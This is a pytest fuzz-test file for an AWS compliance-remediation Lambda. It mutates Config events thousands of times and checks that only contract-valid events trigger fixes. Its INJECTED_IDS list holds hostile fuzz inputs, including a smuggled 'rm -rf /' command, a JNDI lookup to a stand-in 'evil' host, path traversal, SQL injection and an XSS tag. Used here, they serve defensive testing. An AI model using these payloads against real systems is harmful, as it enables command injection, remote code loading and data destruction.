"""Bad input: thousands of malformed and mutated real-shaped events through the handler.

The fuzz runs twice. Over a compliant world (every resource the events name exists and is
compliant), no event, however mutated, has a reason to write. Over a non-compliant world (every
resource the events name needs a fix), a mutated event that slipped through validation would show
as a write: every write must come from an event that a plain reading of the event contract accepts
(right source, detail type, account, region, rule, resource, NON_COMPLIANT), and after each write
the resource is put back (from the record's undo) so that later events still find it non-compliant.
Expected in both: no exception, no internal error, exactly one final JSON log line per event.
"""

from __future__ import annotations

import copy
import json
import random
import re
from collections import Counter
from collections.abc import Callable
from typing import Any

import boto3
import pytest
from botocore import xform_name
from conftest import (
    ACCOUNT,
    DEFAULT_PARAMS,
    REGION,
    SECURITY_HUB_PORTS,
    FakeContext,
    automation_event,
    compliance_event,
    rule_name,
    security_hub_entry,
)
from faults import inject_error
from lambda_scenarios import TRAIL_BUCKET, new_vpc
from remediation.handler import lambda_handler

from tests.safety.figures import record, scale

EVENTS = scale("fuzz_events", 5000)
SEED = 20261127
OTHER_ACCOUNT = "999999999999"
BUCKET = "governance-test-bucket"
OPEN_BUCKET = "governance-open-bucket"

WRONG_VALUES: list[Any] = [
    None, 0, -1, 2**63, 1e308, float("nan"), True, False, "", " ", [], {}, [None], {"": None},
    "x" * 100_000, "ǅ𝔘ñ\u202e\u0000\ud7ff😀", "\n\r\t", {"nested": {"deeper": [{"deepest": "x" * 1000}]}},
]
INJECTED_IDS = [
    "../../etc/passwd", "sg-12345678; rm -rf /", "' OR 1=1 --", "${jndi:ldap://evil/x}", "<script>alert(1)</script>",
    f"{BUCKET}\n", f"{BUCKET}\u0000", "sg-0123456789abcdef0 ", " vpc-12345678", "*", "%00", "arn:aws:s3:::*", "a" * 100_000,
    "ẞucket-ünïcode", "vpc-../../", "main-trail/../../x", "main-trail;DROP TABLE trails", "",
]
"""Ids that are malformed for every resource type: the event must be ignored without a call."""


@pytest.fixture(autouse=True)
def deployment(aws: Any, deploy: Callable[..., Any]) -> None:
    """The deployment the events are fuzzed against: its own Config rules, and one rule taken from Security Hub."""
    deploy(rules={SECURITY_HUB_PORTS[0]: security_hub_entry(*SECURITY_HUB_PORTS)})


LOOKALIKE_IDS = [
    BUCKET.upper(), "sg-" + "f" * 17 + "0", f"arn:aws:cloudtrail:{REGION}:{OTHER_ACCOUNT}:trail/main-trail", OTHER_ACCOUNT, f"{ACCOUNT}0",
    "no-such-bucket", "sg-0123456789abcdef0", "vpc-0123456789abcdef0", "no-such-trail",
]
"""Well-formed ids of resources that do not exist or are not this account's: read, then failed or ignored."""
MUST_BE_IGNORED = {"not an object", "other account", "other region", "unmanaged rule", "injected id", "other source", "qualifier mismatch"}


def compliant_world() -> list[dict[str, Any]]:
    """Compliant resources for every fixer, and a real-shaped NON_COMPLIANT event for each."""
    s3, s3control, ec2, cloudtrail = boto3.client("s3"), boto3.client("s3control"), boto3.client("ec2"), boto3.client("cloudtrail")
    s3.create_bucket(Bucket=BUCKET)
    # Compliant with the deployment's encryption rule: SSE-KMS with its key (every bucket has SSE-S3 already).
    key = {"SSEAlgorithm": "aws:kms", "KMSMasterKeyID": DEFAULT_PARAMS["s3-bucket-encryption"]["kmsKeyArn"]}
    s3.put_bucket_encryption(Bucket=BUCKET, ServerSideEncryptionConfiguration={"Rules": [{"ApplyServerSideEncryptionByDefault": key}]})
    all_on = dict.fromkeys(("BlockPublicAcls", "IgnorePublicAcls", "BlockPublicPolicy", "RestrictPublicBuckets"), True)
    s3.put_public_access_block(Bucket=BUCKET, PublicAccessBlockConfiguration=all_on)
    s3control.put_public_access_block(AccountId=ACCOUNT, PublicAccessBlockConfiguration=all_on)
    vpc = new_vpc()
    group = ec2.create_security_group(GroupName="closed", Description="closed", VpcId=vpc)["GroupId"]
    ec2.authorize_security_group_ingress(GroupId=group, IpPermissions=[{"IpProtocol": "tcp", "FromPort": 22, "ToPort": 22, "IpRanges": [{"CidrIp": "10.0.0.0/8"}]}])
    ec2.create_flow_logs(
        ResourceIds=[vpc], ResourceType="VPC", TrafficType="ALL", LogDestinationType="cloud-watch-logs",
        LogGroupName="/existing", DeliverLogsPermissionArn=f"arn:aws:iam::{ACCOUNT}:role/existing",
    )
    s3.create_bucket(Bucket=TRAIL_BUCKET)
    trail_arn = cloudtrail.create_trail(Name="main-trail", S3BucketName=TRAIL_BUCKET, IsMultiRegionTrail=True, EnableLogFileValidation=True)["TrailARN"]
    cloudtrail.start_logging(Name="main-trail")
    return [
        compliance_event(rule_name("s3-bucket-encryption"), "AWS::S3::Bucket", BUCKET),
        compliance_event(rule_name("s3-bucket-public-access"), "AWS::S3::Bucket", BUCKET, with_old_result=True),
        compliance_event(rule_name("s3-account-public-access"), "AWS::::Account", ACCOUNT),
        compliance_event("securityhub-restricted-ssh-a1b2c3", "AWS::EC2::SecurityGroup", group),
        compliance_event(rule_name("vpc-flow-logs"), "AWS::EC2::VPC", vpc),
        compliance_event(rule_name("cloudtrail-multi-region"), "AWS::::Account", ACCOUNT),
        compliance_event(rule_name("cloudtrail-multi-region"), "AWS::CloudTrail::Trail", trail_arn),
        compliance_event(rule_name("cloudtrail-log-validation"), "AWS::CloudTrail::Trail", "main-trail"),
        compliance_event(rule_name("cloudtrail-log-validation"), "AWS::CloudTrail::Trail", trail_arn),
        *automation_events(),
    ]


def non_compliant_world() -> list[dict[str, Any]]:
    """Non-compliant resources for every fixer but the SSE-S3 one, and a real-shaped NON_COMPLIANT event for each.

    No bucket lacks default encryption on AWS today (every bucket has SSE-S3), so the
    s3-bucket-encryption fixer with AES256 has no non-compliant resource to be fuzzed against.
    """
    s3, ec2, cloudtrail = boto3.client("s3"), boto3.client("ec2"), boto3.client("cloudtrail")
    s3.create_bucket(Bucket=OPEN_BUCKET)
    all_on = dict.fromkeys(("BlockPublicAcls", "IgnorePublicAcls", "BlockPublicPolicy", "RestrictPublicBuckets"), True)
    s3.put_public_access_block(Bucket=OPEN_BUCKET, PublicAccessBlockConfiguration={**all_on, "BlockPublicPolicy": False})
    vpc = new_vpc()
    group = ec2.create_security_group(GroupName="open", Description="open", VpcId=vpc)["GroupId"]
    ec2.authorize_security_group_ingress(GroupId=group, IpPermissions=[{"IpProtocol": "tcp", "FromPort": 20, "ToPort": 25, "IpRanges": [{"CidrIp": "0.0.0.0/0"}]}])
    s3.create_bucket(Bucket=TRAIL_BUCKET)
    trail_arn = cloudtrail.create_trail(Name="main-trail", S3BucketName=TRAIL_BUCKET)["TrailARN"]
    cloudtrail.start_logging(Name="main-trail")
    return [
        compliance_event(rule_name("s3-bucket-public-access"), "AWS::S3::Bucket", OPEN_BUCKET, with_old_result=True),
        compliance_event(rule_name("s3-account-public-access"), "AWS::::Account", ACCOUNT),
        compliance_event("securityhub-restricted-ssh-a1b2c3", "AWS::EC2::SecurityGroup", group),
        compliance_event(rule_name("vpc-flow-logs"), "AWS::EC2::VPC", vpc),
        compliance_event(rule_name("cloudtrail-multi-region"), "AWS::::Account", ACCOUNT),
        compliance_event(rule_name("cloudtrail-log-validation"), "AWS::CloudTrail::Trail", "main-trail"),
        compliance_event(rule_name("cloudtrail-log-validation"), "AWS::CloudTrail::Trail", trail_arn),
        *automation_events(),
    ]


def automation_events() -> list[dict[str, Any]]:
    """SSM Automation status events of the deployment's runbooks (never a reason for the Lambda to write)."""
    # moto has no SSM Automation; the execution read answers "not found", a permanent error.
    inject_error("ssm", "GetAutomationExecution", "AutomationExecutionNotFoundException", 400)
    return [
        automation_event("AWSConfigRemediation-EnableCloudTrailLogFileValidation", "Success"),
        automation_event("AWSConfigRemediation-CreateCloudTrailMultiRegionTrail", "InProgress"),
    ]


def put_back(result: dict[str, Any]) -> None:
    """Undo a remediation with the record's own undo calls, so the resource is non-compliant again."""
    for call in result["undo"]:
        client = boto3.client(call["service"], region_name=call.get("region") or REGION)
        getattr(client, xform_name(call["operation"]))(**call["params"])


MISSING = object()
ACCOUNT_WIDE_RULES = {rule_name("cloudtrail-multi-region"): ("AWS::::Account", "AWS::CloudTrail::Trail")}
"""Rules whose fix is account-wide whatever resource the event names (the fixer documents both types):
this account, or any well-formed trail of it, asks for the same fix."""
TRAIL_NAME = r"[A-Za-z0-9](?:[A-Za-z0-9]|[._-](?![._-])){1,126}[A-Za-z0-9]"
"""CloudTrail's trail-name rule: 3-128 letters, digits, periods, underscores and dashes, starting and ending
with a letter or digit, no two of . _ - in a row."""
TRAIL_ID = re.compile(rf"{TRAIL_NAME}|arn:aws:cloudtrail:{REGION}:{ACCOUNT}:trail/{TRAIL_NAME}")


def _names_a_resource_of_this_account(resource_type: Any, resource_id: Any) -> bool:
    if resource_type == "AWS::::Account":
        return bool(resource_id == ACCOUNT)
    return isinstance(resource_id, str) and TRAIL_ID.fullmatch(resource_id) is not None


def _field(event: Any, *path: str) -> Any:
    for key in path:
        if not isinstance(event, dict) or key not in event:
            return MISSING
        event = event[key]
    return event


def acts_on(event: Any) -> tuple[Any, ...]:
    """What a compliance event asks for: (rule, resource type, resource id), read straight from the detail."""
    return tuple(_field(event, "detail", name) for name in ("configRuleName", "resourceType", "resourceId"))


def follows_the_contract(event: Any, seeds: list[dict[str, Any]]) -> bool:
    """Whether a plain reading of the Config compliance-change contract accepts the event for one of the seeds' resources.

    Independent of the handler's validation: right source and detail type, this account and region in
    the envelope and the detail, a compliance-change message, NON_COMPLIANT, the rule and resource of
    an unmutated seed, and an evaluation-result qualifier that, where it names them, names the same.
    """
    if not isinstance(event, dict):
        return False
    expected = {
        ("source",): "aws.config",
        ("detail-type",): "Config Rules Compliance Change",
        ("account",): ACCOUNT,
        ("region",): REGION,
        ("detail", "awsAccountId"): ACCOUNT,
        ("detail", "awsRegion"): REGION,
        ("detail", "messageType"): "ComplianceChangeNotification",
        ("detail", "newEvaluationResult", "complianceType"): "NON_COMPLIANT",
    }
    if any(_field(event, *path) != value for path, value in expected.items()):
        return False
    rule, resource_type, resource_id = acts_on(event)
    seed_rules = [acts_on(seed)[0] for seed in seeds if seed["source"] == "aws.config"]
    account_wide = isinstance(rule, str) and rule in ACCOUNT_WIDE_RULES and rule in seed_rules and resource_type in ACCOUNT_WIDE_RULES[rule]
    if not (account_wide and _names_a_resource_of_this_account(resource_type, resource_id)) and acts_on(event) not in [
        acts_on(seed) for seed in seeds if seed["source"] == "aws.config"
    ]:
        return False
    qualifier = _field(event, "detail", "newEvaluationResult", "evaluationResultIdentifier", "evaluationResultQualifier")
    if isinstance(qualifier, dict):
        named = {key: qualifier[key] for key in ("configRuleName", "resourceType", "resourceId") if key in qualifier}
        return all(_field(event, "detail", key) == value for key, value in named.items())
    return True


def _paths(value: Any, prefix: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    """Every path to a field of a JSON value."""
    found: list[tuple[Any, ...]] = []
    items = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    for key, child in items:
        found.append((*prefix, key))
        found += _paths(child, (*prefix, key))
    return found


def _parent(event: Any, path: tuple[Any, ...]) -> Any:
    for key in path[:-1]:
        event = event[key]
    return event


def _set_everywhere(event: dict[str, Any], names: tuple[str, ...], value: Any) -> None:
    """Set a field wherever it occurs (detail and qualifier), so the event stays self-consistent."""
    for path in _paths(event):
        if path[-1] in names:
            _parent(event, path)[path[-1]] = value


Mutation = Callable[[random.Random, dict[str, Any]], Any]


def _delete_field(rng: random.Random, event: dict[str, Any]) -> Any:
    path = rng.choice(_paths(event))
    del _parent(event, path)[path[-1]]
    return event


def _wrong_value(rng: random.Random, event: dict[str, Any]) -> Any:
    path = rng.choice(_paths(event))
    _parent(event, path)[path[-1]] = copy.deepcopy(rng.choice(WRONG_VALUES))
    return event


def _extra_field(rng: random.Random, event: dict[str, Any]) -> Any:
    containers = [path for path in _paths(event) if isinstance(_parent(event, (*path, None)), dict)]
    target = _parent(event, (*rng.choice(containers), None)) if containers else event
    target[rng.choice(["__proto__", "constructor", "ÿ", "x" * 300, "$where"])] = copy.deepcopy(rng.choice(WRONG_VALUES))
    return event


def _not_an_object(rng: random.Random, event: dict[str, Any]) -> Any:
    return rng.choice([None, "", "{}", json.dumps(event), [event], 42, b"bytes", ["aws.config"]])


def _other_account(rng: random.Random, event: dict[str, Any]) -> Any:
    choice = rng.choice(["both", "envelope", "detail"])
    if choice == "both" or event["source"] != "aws.config":
        _set_everywhere(event, ("account", "awsAccountId"), OTHER_ACCOUNT)
        if rng.random() < 0.5 and event["detail"].get("resourceType") == "AWS::::Account":
            _set_everywhere(event, ("resourceId",), OTHER_ACCOUNT)
    elif choice == "envelope":
        event["account"] = OTHER_ACCOUNT
    else:
        event["detail"]["awsAccountId"] = OTHER_ACCOUNT
    return event


def _other_region(rng: random.Random, event: dict[str, Any]) -> Any:
    _set_everywhere(event, ("region", "awsRegion"), rng.choice(["eu-west-1", "us-east-2", "", "US-EAST-1", "us-east-1 "]))
    return event


def _unmanaged_rule(rng: random.Random, event: dict[str, Any]) -> Any:
    name = rng.choice(["securityhub-restricted-ssh-", "governance-restricted-admin-ports", "GOVERNANCE-S3-BUCKET-ENCRYPTION", "governance-s3-bucket-encryption ", "other-rule", "governance-", "securityhub-"])
    _set_everywhere(event, ("configRuleName",), name)
    return event


def _injected_id(rng: random.Random, event: dict[str, Any]) -> Any:
    _set_everywhere(event, ("resourceId",), rng.choice(INJECTED_IDS))
    return event


def _lookalike_id(rng: random.Random, event: dict[str, Any]) -> Any:
    _set_everywhere(event, ("resourceId",), rng.choice(LOOKALIKE_IDS))
    return event


def _other_source(rng: random.Random, event: dict[str, Any]) -> Any:
    event["source"], event["detail-type"] = rng.choice([("aws.config", "Config Configuration Item Change"), ("aws.s3", "Object Created"), ("governance.remediation", "Governance Remediation Result"), ("AWS.CONFIG", "Config Rules Compliance Change")])
    return event


def _qualifier_mismatch(rng: random.Random, event: dict[str, Any]) -> Any:
    qualifier = event["detail"]["newEvaluationResult"]["evaluationResultIdentifier"]["evaluationResultQualifier"]
    field = rng.choice(["configRuleName", "resourceType", "resourceId"])
    value = rng.choice(["other", "AWS::S3::Bucket", "sg-0123456789abcdef0", rule_name("vpc-flow-logs")])
    qualifier[field] = value if value != qualifier.get(field) else value + "x"
    return event


def _compliance_type(rng: random.Random, event: dict[str, Any]) -> Any:
    event["detail"]["newEvaluationResult"]["complianceType"] = rng.choice(["COMPLIANT", "NOT_APPLICABLE", "INSUFFICIENT_DATA", "non_compliant", None, 1, ["NON_COMPLIANT"]])
    return event


def _other_resource_type(rng: random.Random, event: dict[str, Any]) -> Any:
    _set_everywhere(event, ("resourceType",), rng.choice(["AWS::S3::Bucket", "AWS::EC2::VPC", "AWS::::Account", "AWS::IAM::User", "AWS::CloudTrail::Trail", "aws::s3::bucket"]))
    return event


MUTATIONS: dict[str, Mutation] = {
    "delete field": _delete_field,
    "wrong type or value": _wrong_value,
    "extra field": _extra_field,
    "not an object": _not_an_object,
    "other account": _other_account,
    "other region": _other_region,
    "unmanaged rule": _unmanaged_rule,
    "injected id": _injected_id,
    "lookalike id": _lookalike_id,
    "other source": _other_source,
    "qualifier mismatch": _qualifier_mismatch,
    "compliance type": _compliance_type,
    "other resource type": _other_resource_type,
}
COMPLIANCE_ONLY = {"unmanaged rule", "injected id", "lookalike id", "qualifier mismatch", "compliance type", "other resource type"}


def mutated_events(seed_events: list[dict[str, Any]], count: int, seed: int = SEED) -> list[tuple[str, int, Any]]:
    """``count`` events: a real-shaped event with one named mutation, and how many random ones follow it."""
    rng = random.Random(seed)
    events: list[tuple[str, int, Any]] = []
    while len(events) < count:
        event = copy.deepcopy(rng.choice(seed_events))
        is_compliance = event["source"] == "aws.config"
        names = [name for name in MUTATIONS if is_compliance or name not in COMPLIANCE_ONLY]
        name = rng.choice(names)
        mutated = MUTATIONS[name](rng, event)
        extra = rng.choice([0, 0, 1, 2])
        for _ in range(extra):
            if not isinstance(mutated, dict) or not _paths(mutated):
                break
            mutated = MUTATIONS[rng.choice(["delete field", "wrong type or value", "extra field"])](rng, mutated)
        mutated_id = mutated.get("id") if isinstance(mutated, dict) else None
        if isinstance(mutated, dict) and isinstance(mutated_id, str):
            mutated["id"] = f"{mutated_id[:8]}-{len(events):06d}"
        events.append((name, extra, mutated))
    return events


def fuzz(seeds: list[dict[str, Any]], requests: Any, capsys: pytest.CaptureFixture[str]) -> Counter[str]:
    """Run the mutated events; every write must come from an event that follows the contract, and is then undone."""
    stats: Counter[str] = Counter()
    decisions: Counter[str] = Counter()
    unexpected: list[str] = []
    for name, extra, event in mutated_events(seeds, EVENTS):
        writes_before = len(requests.writes())
        try:
            result = lambda_handler(event, FakeContext())
        except Exception as error:  # the property under test: nothing escapes
            unexpected.append(f"{name}: {type(error).__name__}: {error}"[:300])
            continue
        writes = len(requests.writes()) - writes_before
        lines = capsys.readouterr().out.splitlines()
        records = [json.loads(line) for line in lines]
        assert len(records) == 1 and records[0]["final"] is True, (name, lines[:3])
        assert records[0]["recordId"] == result["recordId"]
        assert "internal error" not in result["reason"], (name, result["reason"])
        decisions[result["decision"] if result["engine"] == "lambda" else f"SSM outcome {result['decision']}"] += 1
        valid = follows_the_contract(event, seeds)
        stats["events following the contract"] += valid
        if writes:
            assert valid, f"{name} (+{extra}): a write for an event the contract rejects: {json.dumps(event, default=str)[:600]}"
            assert result["decision"] == "remediated", (name, result["reason"])
            stats["events that wrote"] += 1
            stats["writes"] += writes
            put_back(result)
        if result["engine"] == "lambda" and result["decision"] in ("remediated", "dry_run"):
            assert valid, (name, result["reason"])
        if name in MUST_BE_IGNORED and not extra:
            assert result["decision"] == "ignored", (name, result["decision"], result["reason"][:200], result["rule"], str(result["resourceId"])[:100])
            assert result["apiCalls"] == [], "an ignored event makes no call"
    assert unexpected == []
    assert decisions["ignored"] > EVENTS // 2
    stats["events"] = EVENTS
    stats["unexpected exceptions"] = len(unexpected)
    stats.update({f"decision {decision}": count for decision, count in decisions.items()})
    return stats


def _record_fuzz(section: str, stats: Counter[str], requests: Any) -> None:
    for key in ("events", "unexpected exceptions", "writes", "events that wrote", "events following the contract"):
        record(section, key, stats[key])
    record(section, "decisions", {key.removeprefix("decision "): count for key, count in stats.items() if key.startswith("decision ")})
    record(section, "aws requests (reads and result events)", len(requests.sent))


def test_mutated_events_over_compliant_resources_never_write(requests, capsys) -> None:
    seeds = compliant_world()
    requests.clear()
    stats = fuzz(seeds, requests, capsys)
    assert requests.writes() == [], "no mutated event wrote anything"
    _record_fuzz("fuzz", stats, requests)


def test_mutated_events_over_non_compliant_resources_write_only_when_valid(requests, capsys) -> None:
    seeds = non_compliant_world()
    requests.clear()
    stats = fuzz(seeds, requests, capsys)
    # Some mutations leave the event valid (an extra field, a deleted optional one): those must fix, so a
    # validation hole has non-compliant resources to write to.
    assert stats["events that wrote"] > 0
    assert stats["events that wrote"] <= stats["events following the contract"]
    _record_fuzz("fuzz_non_compliant", stats, requests)


def test_the_unmutated_seed_events_reach_their_fixers(requests) -> None:
    # A self-check: the seeds are valid, so the fuzz above starts from events the handler acts on.
    seeds = compliant_world()
    for event in seeds:
        assert follows_the_contract(event, seeds) == (event["source"] == "aws.config")
        result = lambda_handler(event, FakeContext())
        if event["source"] == "aws.config":
            assert result["decision"] == "already_compliant", result["reason"]
        else:
            assert result["engine"] == "ssm" or result["decision"] == "ignored", result["reason"]
    assert requests.writes() == []


def test_the_non_compliant_seed_events_write_and_are_put_back(requests) -> None:
    # A self-check: each seed of the non-compliant world writes, and putting it back makes it write again.
    seeds = non_compliant_world()
    for event in seeds:
        assert follows_the_contract(event, seeds) == (event["source"] == "aws.config")
        if event["source"] != "aws.config":
            continue
        for _ in range(2):
            before = len(requests.writes())
            result = lambda_handler(event, FakeContext())
            assert result["decision"] == "remediated" and len(requests.writes()) > before, result["reason"]
            put_back(result)


@pytest.mark.parametrize(
    "arn",
    [None, "", "arn:aws:lambda:us-east-1:123:function:x", "arn:aws:iam::123456789012:role/x", f"arn:aws:lambda:{REGION}:{ACCOUNT}:function:f\n", "x" * 10_000],
)
def test_a_context_without_a_function_arn_is_ignored(arn: str | None, requests) -> None:
    class Context:
        invoked_function_arn = arn
        aws_request_id = None

    result = lambda_handler(compliance_event(rule_name("s3-account-public-access"), "AWS::::Account", ACCOUNT), Context())
    assert result["decision"] == "ignored" and result["apiCalls"] == []
    assert requests.writes() == []
